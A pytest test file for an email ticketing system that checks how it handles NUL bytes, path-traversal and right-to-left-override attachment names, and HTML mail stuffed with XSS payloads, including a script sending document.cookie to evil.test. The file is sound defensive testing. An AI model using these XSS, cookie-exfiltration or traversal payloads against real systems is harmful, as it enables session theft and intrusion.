"""Hostile content end to end, on SQLite and PostgreSQL: NUL bytes, attachment names and HTML with
scripts, from bytes in to what is stored and what a person sees (see test_hostile_input.py for the
sizes, counts, nesting, charsets and the size limit)."""

from __future__ import annotations

import json
import unicodedata
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import select

from autoresponder.attachments import attachments_of
from inbox.app import App
from inbox.domain.ticket import Outcome
from inbox.store.tables import Attachment
from tests.fakes import write_config
from tests.integration.test_smtp import listening, rows, send

SUBJECT_CAP = 998  # RFC 5322 section 2.1.1, and the project's own cap on the subjects it sends (render.MAX_SUBJECT)


from tests.reliability.hostile_kit import ingest, process, raw_row, nothing_pending, the_ticket, stored_text, readable, run_cli


# --- 6. NUL bytes -----------------------------------------------------------------------------------


def _nul_mail() -> bytes:
    return (
        b"From: Al\x00ice <alice@acme.com>\r\n"
        b"To: support@example.com, pa\x00rtner@vendor.test\r\n"
        b"Cc: =?utf-8?q?C=00c?= <cc@vendor.test>\r\n"
        b"Subject: print\x00er =?utf-8?q?on=00fire?=\r\n"
        b"Message-ID: <nul\x00id@acme.com>\r\n"
        b"References: <ref\x00one@acme.com>\r\n"
        b"X-Junk: \x00\x00\x00\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=NUL\r\n\r\n"
        b"--NUL\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"Our printer\x00 is on fire.\x00\r\n"
        b"--NUL\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"QUAAQgBDAA==\r\n"  # "A\0B\0C\0": NULs only visible after decoding
        b"--NUL\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename=\"a\x00b.bin\"\r\n\r\nbinary\x00data\r\n"
        b"--NUL--\r\n"
    )


async def test_nul_bytes_in_headers_and_body_are_stored_raw_and_never_reach_the_ticket(app: App) -> None:
    """NULs in headers (raw and RFC 2047-encoded), in the body (raw and base64) and in a file name,
    received over SMTP: 250, the raw kept with its NULs, and a ticket with no NUL in any stored text
    (PostgreSQL refuses NUL in text columns, so on it this is also "the insert did not fail")."""
    data = _nul_mail()
    async with listening(app) as door:
        code, _ = await send(door.port, data)
    assert code == 250
    [row] = rows(app)
    assert row.data == data and data.count(b"\x00") == 12
    assert process(app, row.id) == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, row.id)
    assert ticket.requester == "alice@acme.com" and "printer" in ticket.subject
    assert "Our printer is on fire." in message.text
    values = stored_text(app)
    assert not [v for v in values if not readable(v)]
    assert all("\\u0000" not in v for v in values)  # nor escaped inside the JSON of events and outbox


# --- 7. attachment names ----------------------------------------------------------------------------

HOSTILE_NAMES = {
    "../../etc/passwd": 'filename="../../etc/passwd"',
    "/etc/shadow": 'filename="/etc/shadow"',
    "windows path": 'filename="C:\\\\Windows\\\\System32\\\\evil.dll"',
    "control characters": 'filename="inv\x07oice\x1b[31m\x7f\x01.pdf"',
    "RTL override": "filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "RTL override, encoded word": 'filename="=?utf-8?q?report=E2=80=AEgpj.exe?="',
    "empty": 'filename=""',
    "dots": 'filename=".."',
    "C1 control and NUL": "filename*=utf-8''a%C2%85b%00c.txt",
}


def _with_attachments(names: dict[str, str]) -> bytes:
    parts = [b"--ATT\r\nContent-Type: text/plain\r\n\r\nSee the attached files.\r\n"]
    for param in names.values():
        parts.append(b"--ATT\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                     + param.encode("latin-1") + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                     + b"ZmlsZSBjb250ZW50\r\n")  # "file content"
    return (b"From: Alice <alice@acme.com>\r\nTo: support@example.com\r\nSubject: files\r\n"
            b"Message-ID: <files@acme.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=ATT\r\n\r\n"
            + b"".join(parts) + b"--ATT--\r\n")


def _unsafe(name: str) -> list[str]:
    """What makes a file name unsafe to write to a disk or show to a person."""
    problems = []
    if not name or name in {".", ".."}:
        problems.append("empty or a dot name")
    if "/" in name or "\\" in name or (len(name) > 1 and name[1] == ":"):
        problems.append("a path")
    if name != name.strip() or name.startswith("."):
        problems.append("leading or trailing space or dot")
    odd = [f"U+{ord(ch):04X}" for ch in name if unicodedata.category(ch)[0] == "C"]  # Cc controls, Cf bidi overrides
    if odd:
        problems.append(f"control or format characters {odd}")
    if len(name) > 255:
        problems.append("longer than 255")
    return problems


def test_hostile_attachment_names_are_stored_as_safe_base_names(app: App) -> None:
    """Paths, absolute paths, control characters, a right-to-left override, an empty name: each
    attachment is recorded, in order, under a safe base name (no directory, no control or format
    character, never empty), keeping the readable part of the name."""
    raw_id, outcome = ingest(app, _with_attachments(HOSTILE_NAMES))
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    _, message = the_ticket(app, raw_id)
    with app.sessions() as session:
        stored = list(session.scalars(select(Attachment.filename).where(Attachment.message_id == message.id)
                                      .order_by(Attachment.id)))
    assert len(stored) == len(HOSTILE_NAMES)
    assert {name: _unsafe(name) for name in stored if _unsafe(name)} == {}
    named = dict(zip(HOSTILE_NAMES, stored))
    assert named["../../etc/passwd"] == "passwd" and named["/etc/shadow"] == "shadow"
    assert named["windows path"] == "evil.dll"
    assert named["RTL override"] == "invoicefdp.exe" and named["control characters"] == "invoice[31m.pdf"
    assert named["empty"] == named["dots"] == "attachment.bin"


def test_relayed_attachments_get_safe_names_too() -> None:
    """When an engineer's reply is relayed, `attachments_of(raw)` names each file safely as well: every
    attachment kept, none named with a path, a control or a bidi-format character, or nothing."""
    kept, left_out = attachments_of(_with_attachments(HOSTILE_NAMES))
    assert left_out == [] and len(kept) == len(HOSTILE_NAMES)
    assert all(a.data == b"file content" for a in kept)
    assert {a.filename: _unsafe(a.filename) for a in kept if _unsafe(a.filename)} == {}


def test_relayed_attachments_lose_paths_and_c0_controls() -> None:
    """What `attachments_of` already guarantees: no directory part, no C0 control, never empty."""
    kept, _ = attachments_of(_with_attachments(HOSTILE_NAMES))
    named = dict(zip(HOSTILE_NAMES, (a.filename for a in kept)))
    assert named["../../etc/passwd"] == "passwd" and named["/etc/shadow"] == "shadow"
    assert named["windows path"] == "evil.dll"
    for name in named.values():
        assert name and "/" not in name and "\\" not in name and name not in {".", ".."}
        assert not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in name)


# --- 8. HTML with scripts ---------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><script>alert('head');</script>
<style>body { background: url(javascript:alert('css')) }</style></head>
<body onload="alert('load')"><p>The export fails with error 502.</p>
<script type="text/javascript">document.location='https://evil.test/?c='+document.cookie</script>
<img src="x" onerror="alert('img')"><a href="javascript:alert('link')">click here</a>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="javascript:alert('frame')"></iframe><!-- <script>alert('comment')</script> -->
<SCRIPT SRC=https://evil.test/x.js></SCRIPT><p>Steps: open the report, press export.</p></body></html>
"""


def test_html_only_mail_with_scripts_is_stored_as_text_and_shown_without_markup(
    app: App, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An HTML-only mail full of scripts, event handlers and javascript: links: the raw is kept byte-exact,
    the stored text is the words only (no tag, no script or style content, no handler, no javascript:
    URL), and `inbox tickets show`, as text or JSON, prints no markup."""
    msg = EmailMessage()
    msg["From"] = "Alice <alice@acme.com>"
    msg["To"] = "support@example.com"
    msg["Subject"] = "export broken"
    msg["Message-ID"] = "<html@acme.com>"
    msg.set_content(HOSTILE_HTML, subtype="html")
    data = msg.as_bytes()
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    assert raw_row(app, raw_id).data == data
    _, message = the_ticket(app, raw_id)
    assert "The export fails with error 502." in message.text and "press export" in message.text
    for text in (message.text, message.visible_text):
        lowered = text.lower()
        for bad in ("<script", "<img", "<iframe", "<svg", "onerror", "onload", "javascript:", "alert(", "document.cookie"):
            assert bad not in lowered, (bad, text)
    config = str(write_config(tmp_path, db_url))
    code, out = run_cli(capsys, "--config", config, "tickets", "show", "SUP-000001")
    assert code == 0 and "The export fails with error 502." in out
    assert "<script" not in out.lower() and "onerror" not in out.lower() and "javascript:" not in out.lower()
    code, out = run_cli(capsys, "--config", config, "tickets", "show", "SUP-000001", "--json")
    assert code == 0
    [shown] = json.loads(out)["messages"]
    assert "<script" not in shown["text"].lower() and "javascript:" not in shown["text"].lower()


